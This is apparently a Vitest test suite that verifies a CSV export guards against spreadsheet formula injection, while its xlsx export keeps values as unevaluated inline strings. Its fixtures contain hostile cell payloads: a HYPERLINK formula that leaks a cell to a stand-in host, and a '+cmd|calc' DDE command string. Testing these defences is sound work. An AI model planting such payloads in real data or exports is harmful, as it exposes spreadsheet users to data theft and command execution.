import { beforeAll, describe, expect, it } from 'vitest';
import { BASE, createEvent, event, get, uniqueCompanyId } from '../../helpers/app';
import { parseCsv } from '../../helpers/csv.mjs';
import { query } from '../../helpers/sql';
import { zipEntryText } from '../../helpers/xlsx';

/**
 * Issue 13.1: a CSV cell that starts with =, +, -, @, tab or CR runs as a formula when support
 * staff open the export in a spreadsheet. By default such cells get a leading apostrophe (OWASP);
 * raw=true gives the stored bytes. Company and store names are written by tenant admins, so they
 * are guarded too. xlsx writes inline strings, which are never evaluated: no prefix there.
 */
const company = uniqueCompanyId();
const HYPERLINK = '=HYPERLINK("https://x/?"&A2,"open")';
const HOSTILE = {
  message: HYPERLINK,
  user: '@SUM(1+1)',
  companyName: '+cmd|calc!A1',
  storeName: '-2+3',
};

async function csvRows(extra: Record<string, string> = {}): Promise<string[][]> {
  const qs = new URLSearchParams({ company_id: String(company), format: 'csv', ...extra });
  const response = await get(`${BASE}/export?${qs}`);
  expect(response.status).toBe(200);
  const rows = parseCsv((await response.text()).replace(/^\uFEFF/, ''));
  return rows.slice(1).sort((a, b) => Number(a[0]) - Number(b[0]));
}

const ids: number[] = [];
beforeAll(async () => {
  await query('INSERT INTO companies VALUES ($1, $2)', [company, HOSTILE.companyName]);
  await query('INSERT INTO storelocations VALUES ($1, 101, $2)', [company, HOSTILE.storeName]);
  const at = (n: number) => new Date(Date.now() - 60_000 * n).toISOString();
  ids.push(
    await createEvent(event({ company_id: company, event_timestamp: at(4), message: HYPERLINK, user: HOSTILE.user })),
  );
  ids.push(
    await createEvent(event({ company_id: company, event_timestamp: at(3), message: '\tindented', user: 'plain' })),
  );
  ids.push(
    await createEvent(
      event({ company_id: company, event_timestamp: at(2), message: '\r\nstarts with CR', user: null }),
    ),
  );
  ids.push(
    await createEvent(
      event({ company_id: company, event_timestamp: at(1), message: 'ordinary, =not at start', user: 'a-b' }),
    ),
  );
});

describe('CSV export guards cells that would run as formulas (issue 13.1)', () => {
  it('prefixes = + - @ tab CR cells with an apostrophe by default, company and store names included', async () => {
    const rows = await csvRows();
    expect(rows.map((r) => r[0])).toEqual(ids.map(String));
    const [first, tab, cr, ordinary] = rows as [string[], string[], string[], string[]];
    expect(first[7]).toBe(`'${HYPERLINK}`);
    expect(first[6]).toBe(`'${HOSTILE.user}`);
    expect(first[5]).toBe(`'${HOSTILE.companyName}`);
    expect(first[4]).toBe(`'${HOSTILE.storeName}`);
    expect(tab[7]).toBe("'\tindented");
    expect(cr[7]).toBe("'\r\nstarts with CR");
    // Text that only contains those characters later is left alone, as are ids and timestamps.
    expect(ordinary[7]).toBe('ordinary, =not at start');
    expect(ordinary[6]).toBe('a-b');
    expect(ordinary[0]).toBe(String(ids[3]));
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('raw=true writes the stored text byte for byte', async () => {
    const [first, tab, cr] = (await csvRows({ raw: 'true' })) as [string[], string[], string[]];
    expect(first[7]).toBe(HYPERLINK);
    expect(first[6]).toBe(HOSTILE.user);
    expect(first[5]).toBe(HOSTILE.companyName);
    expect(first[4]).toBe(HOSTILE.storeName);
    expect(tab[7]).toBe('\tindented');
    expect(cr[7]).toBe('\r\nstarts with CR');
  });

  it('raw must be a true/false flag', async () => {
    const response = await get(`${BASE}/export?company_id=${company}&format=csv&raw=maybe`);
    expect(response.status).toBe(422);
  });

  it('xlsx keeps the text as is, in inline string cells that spreadsheets never evaluate', async () => {
    const response = await get(`${BASE}/export?company_id=${company}`);
    expect(response.status).toBe(200);
    const sheet = zipEntryText(new Uint8Array(await response.arrayBuffer()), 'xl/worksheets/sheet1.xml');
    expect(sheet).not.toContain('<f>');
    expect(sheet).toContain('t="inlineStr"><is><t>=HYPERLINK("https://x/?"&amp;A2,"open")</t>');
  });
});
